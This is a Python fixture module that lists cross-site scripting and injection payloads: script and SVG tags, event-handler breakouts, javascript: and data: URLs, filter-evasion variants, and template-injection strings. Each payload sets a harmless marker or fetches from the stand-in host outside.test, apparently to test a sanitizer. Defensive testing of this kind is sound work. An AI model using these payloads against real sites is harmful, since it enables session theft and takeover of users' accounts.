"""Texts that would run, or fetch something, where a page took them for markup, script, style or an address.

Each sets ``window.hacked`` or asks https://outside.test for something.
"""

from __future__ import annotations

RUN = "window.hacked=1"
_ADDRESS = f"javascript:{RUN}"
_OUTSIDE = "https://outside.test"

MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</ScRiPt ><sCrIpT>{RUN}</sCrIpT>",
    f"<!--<script>{RUN}//-->",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script\n>{RUN}</script\n>",
    f"<script src={_OUTSIDE}/x.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><a xlink:href='{_ADDRESS}'><text>href</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to={_ADDRESS}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN} />#x'>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src='x' onerror='{RUN}'",
    f"<img/src=x/onerror={RUN}>",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<object data=x onerror={RUN}></object>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={RUN}>x</div>",
    f"<p onmouseover={RUN} onclick={RUN} onpointerenter={RUN}>x</p>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f'" autofocus onfocus={RUN} "',
)
ADDRESSES = (
    _ADDRESS,
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>opener.{RUN}</script>",
    f"<a href='{_ADDRESS}'>href</a>",
    f"<a href='&#106;avascript:{RUN}'>href</a>",
    f"[href]({_ADDRESS})",
    f"<form action={_ADDRESS}><button>x</button></form>",
    f"<iframe src='{_ADDRESS}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<embed src='{_ADDRESS}'>",
    f"<base href='{_OUTSIDE}/'>",
    f"<meta http-equiv=refresh content='0;url={_OUTSIDE}'>",
    f"<link rel=stylesheet href={_OUTSIDE}/x.css>",
    f"<style>@import '{_OUTSIDE}/x.css';*{{background:url({_OUTSIDE}/x.png)}}</style>",
    f"url({_OUTSIDE}/x.png)",
    f"<img src={_OUTSIDE}/x.png>",
)
SCRIPT = (
    f"'-({RUN})-'",
    f'";{RUN}//',
    f"\\';{RUN}//",
    f"`${{{RUN}}}`",
    f"\u2028{RUN}//\u2029",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\ud83d<script>{RUN}</script>",
    f"\x00<script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{ 7 * 7 }}{% for x in y %}",
    "{% raw %}{{ style }}",
    "__proto__",
    "constructor",
)
PAYLOADS = (*MARKUP, *HANDLERS, *ADDRESSES, *SCRIPT)
